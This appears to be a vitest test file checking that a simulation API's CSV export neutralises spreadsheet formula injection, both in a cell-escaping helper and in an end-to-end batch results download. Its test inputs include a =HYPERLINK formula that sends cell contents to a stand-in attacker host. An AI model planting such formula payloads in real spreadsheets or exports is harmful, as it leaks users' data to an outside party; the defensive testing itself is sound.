/** Issue 19, row 13: CSV cells a spreadsheet would run as a formula are neutralised; numbers stay numbers. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cell } from '../../api/http/csv.js';
import { call, PLAN_YAML, seedTestvale, testServer, waitForBatch, boundEachTest } from './helpers.js';

type Server = Awaited<ReturnType<typeof testServer>>;


// Bounded time (issue 19): none of these may hang or stall the server.
boundEachTest();
describe('CSV formula injection', () => {
  it("prefixes text starting with =, +, -, @, tab or CR with a single quote; numbers are untouched", () => {
    expect(cell('=HYPERLINK("http://evil.example","x")')).toBe(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(cell('+1')).toBe("'+1");
    expect(cell('-2+3')).toBe("'-2+3");
    expect(cell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(cell('\t=1')).toBe("'\t=1");
    expect(cell('deaths <= 0')).toBe('deaths <= 0');
    expect(cell(-1.5)).toBe('-1.5');
    expect(cell(-0.25e-7)).toBe('-2.5e-8');
    expect(cell(null)).toBe('');
  });

  describe('through the API', () => {
    let s: Server;
    beforeAll(async () => {
      s = await testServer();
      await seedTestvale(s.app);
    });
    afterAll(() => s.close());

    it('a stored plan whose target label is =HYPERLINK(...) gives a quoted-text cell in results?format=csv', async () => {
      const label = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
      const plan = PLAN_YAML.replace(/- \{ metric: deaths, op: "<=", value: 0 \}/, `- { metric: deaths, op: "<=", value: 0, label: '${label}' }`);
      expect(plan).not.toBe(PLAN_YAML);
      const put = await call(s.app, 'PUT', '/v1/plans/testvale-basic', plan);
      expect(put.status, put.text).toBe(200);
      const batch = await call(s.app, 'POST', '/v1/batches', { scenario: 'testvale-flood', plan: 'testvale-basic', seed: 1, replications: 10 });
      expect(batch.status, batch.text).toBe(202);
      expect((await waitForBatch(s.app, batch.body.id)).status).toBe('done');
      const csv = await call(s.app, 'GET', `/v1/batches/${batch.body.id}/results?format=csv`);
      expect(csv.status).toBe(200);
      const row = csv.text.split('\r\n').find((l) => l.startsWith('target,'))!;
      expect(row.startsWith(`target,"'=HYPERLINK(`)).toBe(true);
      // No cell anywhere starts a formula (a quoted cell's first character is after the quote).
      for (const line of csv.text.trimEnd().split('\r\n')) {
        for (const c of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
          const text = c.replace(/,$/, '').replace(/^"|"$/g, '');
          if (/^[=+@]/.test(text) || (/^-/.test(text) && !Number.isFinite(Number(text)))) throw new Error(`formula cell ${c} in ${line}`);
        }
      }
    });
  });
});
